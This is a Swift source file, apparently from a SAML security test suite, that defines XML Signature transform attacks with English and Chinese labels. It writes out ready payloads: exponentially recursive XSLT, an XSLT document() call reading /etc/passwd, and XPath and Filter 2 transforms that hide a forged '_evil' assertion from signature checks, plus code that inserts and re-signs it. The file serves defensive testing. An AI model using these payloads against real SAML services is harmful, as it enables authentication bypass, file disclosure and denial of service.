import SAML
import XMLSecurity

// Transforms that choose, rewrite or burn time. Signed by the honest key: only the transform is wrong.
extension Attack {
    private static let xslt = "pysaml2 1035, python3-saml 447, SAMLRaider ApplyXsltTest"
    private static let xpath = "CVE-2026-49289, SAMLscope IIP-SSO01-fk, samael xpath_transform"
    private static let call = "<xsl:call-template name=\"a\"></xsl:call-template>"
    private static let dsig = SignatureDraft.namespace

    static let transforms: [Attack] = [
        transform(28, "xslt-recursion", "An XSLT transform that recurses 2^27 times", "递归 2^27 次的 XSLT 变换", xslt) {
            [$0, stylesheet("\(call)\(call)"), $1]
        },
        transform(28, "xslt-document", "An XSLT transform that reads a file", "读取文件的 XSLT 变换", xslt) {
            [$0, stylesheet("<xsl:copy-of select=\"document('file:///etc/passwd')\"></xsl:copy-of>"), $1]
        },
        transform(29, "base64", "A Base64 transform", "Base64 变换", xpath) {
            [$0, $1, "<ds:Transform Algorithm=\"\(dsig)base64\"></ds:Transform>"]
        },
        transform(29, "inclusive-c14n", "Inclusive canonicalisation", "包含式规范化", xpath) { first, _ in
            [first, "<ds:Transform Algorithm=\"http://www.w3.org/TR/2001/REC-xml-c14n-20010315\"></ds:Transform>"]
        },
        transform(29, "here", "An XPath transform with here()", "使用 here() 的 XPath 变换", xpath) {
            [$0, path("xmldsig-filter", "here()/ancestor::ds:Signature"), $1]
        },
        response(
            29,
            "xpath-exclusion",
            "An XPath that leaves the forged assertion out",
            "用 XPath 排除伪造断言",
            xpath,
            [.structure, .reference]
        ) {
            try excluding($0, path("REC-xpath-19991116", "not(ancestor-or-self::saml:Assertion[@ID='_evil'])"))
        },
        response(
            29,
            "xpath-filter2-exclusion",
            "XPath filter 2 that subtracts it",
            "用 XPath Filter 2 减去伪造断言",
            xpath,
            [.structure, .reference]
        ) {
            try excluding($0, path("xmldsig-filter2", "//saml:Assertion[@ID='_evil']"))
        },
        transform(31, "many-transforms", "Five hundred transforms", "五百个变换", "W3C XML Signature best practices") {
            [$0] + Array(repeating: $1, count: 500)
        },
    ]

    private static func transform(
        _ number: Int,
        _ id: String,
        _ en: String,
        _ zh: String,
        _ source: String,
        _ list: @escaping @Sendable (_ enveloped: String, _ exclusive: String) -> [String]
    ) -> Attack {
        response(number, "transform-" + id, en, zh, source, [.reference]) {
            try $0.resigned(draft: {
                $0.references[0].transforms = list(SignatureDraft.enveloped, SignatureDraft.exclusive)
            })
        }
    }

    /// The response is signed with a transform that leaves out what the attacker adds.
    private static func excluding(_ material: AttackMaterial, _ transform: String) throws -> [UInt8] {
        let parts = try Parts(material.response().document(material.signer, .response))
        let honest = try Surgery.edited(parts.whole) { try $0.replace(parts.signature, with: "") }
        var draft = SignatureDraft([.init("#" + HonestResponse.responseID, over: honest)])
        draft.references[0].transforms.insert(transform, at: 1)
        var surgery = Surgery(parts.whole)
        try surgery.insert(parts.evil(), before: parts.bare)
        try surgery.replace(parts.signature, with: draft.signed(by: material.signer))
        return surgery.octets
    }

    private static func path(_ algorithm: String, _ expression: String) -> String {
        let isFirst = algorithm.hasPrefix("REC")
        let uri = (isFirst ? "http://www.w3.org/TR/1999/" : "http://www.w3.org/2002/06/") + algorithm
        return "<ds:Transform Algorithm=\"\(uri)\"><ds:XPath>\(expression)</ds:XPath></ds:Transform>"
    }

    private static func stylesheet(_ body: String) -> String {
        "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\">"
            + "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\">"
            + "<xsl:template match=\"/\" name=\"a\">\(body)</xsl:template></xsl:stylesheet></ds:Transform>"
    }
}
